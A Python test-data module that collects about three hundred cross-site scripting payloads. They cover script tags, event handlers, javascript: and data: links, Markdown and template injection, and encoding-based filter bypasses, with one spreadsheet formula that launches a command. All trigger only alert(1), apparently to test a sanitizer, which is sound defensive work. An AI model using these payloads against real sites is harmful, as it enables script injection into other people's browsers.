"""Things that people paste, or are given to paste, to make a page run something: each would call `alert`."""

from __future__ import annotations

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script	type="text/javascript">alert(1)</script>
<script type=module>alert(1)</script>
<script src=data:,alert(1)></script>
<script src="data:text/javascript,alert(1)"></script>
<script src=//127.0.0.1:9/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>/*</script><script>*/alert(1)</script>
<script>alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</article></div></main><script>alert(1)</script>
</a></p></li></section><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><script>alert(1)</script>"></xmp>
<plaintext><script>alert(1)</script>
<listing><script>alert(1)</script></listing>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.alert(1)"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<frameset><frame src="javascript:parent.alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.alert(1)'/>">
<applet code="javascript:alert(1)"></applet>
<portal src="javascript:alert(1)"></portal>
<link rel=stylesheet href="data:text/css,*{}" onload=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url('javascript:alert(1)')}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">x</b>
<style><img src="</style><img src=x onerror=alert(1)>">
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
"""

_HANDLERS = r'''
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=`alert(1)`>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror =alert(1)>
<img src=x onerror= alert(1)>
<img src=x	onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;lert(1)>
<img src=x onerror="\u0061lert(1)">
<img src=x onerror=alert`1`>
<img src=x onerror=top.alert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=setTimeout('alert(1)')>
<img src=x onerror=Function('alert(1)')()>
<img src=x onerror="throw onerror=alert,1">
<img src=x:x onerror=alert(1)>
<img src onerror=alert(1)>
<img onerror=alert(1) src=x
<img """><img src=x onerror=alert(1)>
<img alt="a>b" src=x onerror=alert(1)>
<img alt='"' src=x onerror=alert(1) x='"'>
<img title="`" src=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<image xlink:href=x onerror=alert(1)>
<picture><source srcset=x><img src=x onerror=alert(1)></picture>
<img srcset=",x" onerror=alert(1)>
<img src=dot.png onload=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=x onloadstart=alert(1)><source></video>
<audio src=x onerror=alert(1)></audio>
<audio oncanplay=alert(1)><source></audio>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg	onload=alert(1)>
<svg onload=alert(1)//
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image onerror='alert(1)'/></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><discard onbegin=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<html onclick=alert(1)>
<p onclick=alert(1)>x</p>
<p onmouseover=alert(1)>x</p>
<p onmouseenter=alert(1)>x</p>
<p onpointerover=alert(1)>x</p>
<p onpointerenter=alert(1)>x</p>
<p onfocus=alert(1) tabindex=0>x</p>
<p onfocusin=alert(1) tabindex=0 autofocus>x</p>
<p onblur=alert(1) tabindex=0 autofocus>x</p>
<p onwheel=alert(1)>x</p>
<p oncopy=alert(1)>x</p>
<p onscroll=alert(1)>x</p>
<p contenteditable oninput=alert(1)>x</p>
<p onbeforematch=alert(1) hidden=until-found>x</p>
<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>
<b onauxclick=alert(1)>x</b>
<b ontouchstart=alert(1)>x</b>
<x onclick=alert(1)>x</x>
<x-y onclick=alert(1)>x</x-y>
<a onmouseover=alert(1)>x</a>
<a href="#" onclick="alert(1)">x</a>
<a href=x onfocus=alert(1) autofocus>x</a>
<a id=x tabindex=1 onfocus=alert(1)></a>
<a accesskey=x onclick=alert(1)>x</a>
<details open ontoggle=alert(1)>x</details>
<details ontoggle=alert(1)><summary>x</summary>y</details>
<summary onclick=alert(1)>x</summary>
<dialog open onclose=alert(1)>x</dialog>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input value=x onchange=alert(1)>
<button onclick=alert(1)>x</button>
<button popovertarget=x>x</button><b popover id=x onbeforetoggle=alert(1)>y</b>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<table background="javascript:alert(1)"><tr><td>x</table>
<td background="javascript:alert(1)">x</td>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="animation:x 1s" onanimationend=alert(1)>x</div>
<div ontransitionend=alert(1) style="transition:all 1s">x</div>
<br style=animation-name:x onanimationstart=alert(1)>
<hr onmouseover=alert(1)>
<li onmouseover=alert(1)>x
<h2 onmouseover=alert(1)>x</h2>
<abbr title="x" onmouseover=alert(1)>x</abbr>
<time datetime="x" onmouseover=alert(1)>x</time>
<span class="x" onmouseover=alert(1)>x</span>
<div markdown="1" onclick="alert(1)">x</div>
<font onclick=alert(1)>x</font>
<custom><img src=x onerror=alert(1)></custom>
'''

_ADDRESSES = r"""
<a href="javascript:alert(1)">x</a>
<a href='javascript:alert(1)'>x</a>
<a href=javascript:alert(1)>x</a>
<a href="JavaScript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript://www.example.org/%0aalert(1)">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://www.example.org/x">x</a>
<a href="filesystem:https://www.example.org/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="x" ping="javascript:alert(1)">x</a>
<a href="https://www.example.org/" target="javascript:alert(1)">x</a>
<area href="javascript:alert(1)">
<map name=x><area shape=default href="javascript:alert(1)"></map><img usemap=#x src=x>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)" type=image>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<img src="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img longdesc="javascript:alert(1)" src=x>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java&#9;script:alert(1))
[x](vbscript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](javascript:alert(1) "title")
[x](x "a" onclick="alert(1)")
[x](x"onclick="alert(1))
[x](https://www.example.org/"onmouseover="alert(1))
![x](javascript:alert(1))
![x](x"onerror="alert(1))
![x" onerror="alert(1)](x)
![x](data:image/svg+xml;base64,PHN2Zy8+)
[x]: javascript:alert(1)
<javascript:alert(1)>
<javascript&colon;alert(1)>
[<img src=x onerror=alert(1)>](x)
[x](#a){: onclick="alert(1)" }
[x](#a){: href="javascript:alert(1)" }
*x*{: onmouseover=alert(1) }
*x*{: style="animation:x" onanimationstart=alert(1) }
x {: onclick="alert(1)" }
## x {: onclick="alert(1)" }
![x](dot.png){: onload="alert(1)" }
![x](x){: onerror=alert(1) }
`<img src=x onerror=alert(1)>`
*[x]: "><img src=x onerror=alert(1)>
[^1]: <img src=x onerror=alert(1)>
!!! note "<img src=x onerror=alert(1)>"
!!! "x onclick=alert(1)"
| <img src=x onerror=alert(1)> | x |
<div markdown="1"><img src=x onerror=alert(1)></div>
<div markdown="1">[x](javascript:alert(1))</div>
&lt;img src=x onerror=alert(1)&gt;
&#60;img src=x onerror=alert(1)&#62;
\<img src=x onerror=alert(1)\>
%3Cscript%3Ealert(1)%3C/script%3E
{{ "<script>alert(1)</script>" }}
{{ config.extra }}<img src=x onerror=alert(1)>
{% raw %}<script>alert(1)</script>{% endraw %}
${alert(1)}
#{alert(1)}
=cmd|' /C calc'!A0
javascript:alert(1)
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"/><svg/onload=alert(1)>
x" onerror="alert(1)
https://www.example.org/" onclick="alert(1)
https://www.example.org/?a=<script>alert(1)</script>
https://www.example.org/#"><img src=x onerror=alert(1)>
mailto:x@example.org?body=<script>alert(1)</script>
tel:"><img src=x onerror=alert(1)>
"""

SNIPPETS = [line for block in (_SCRIPTS, _HANDLERS, _ADDRESSES) for line in block.splitlines() if line.strip()]
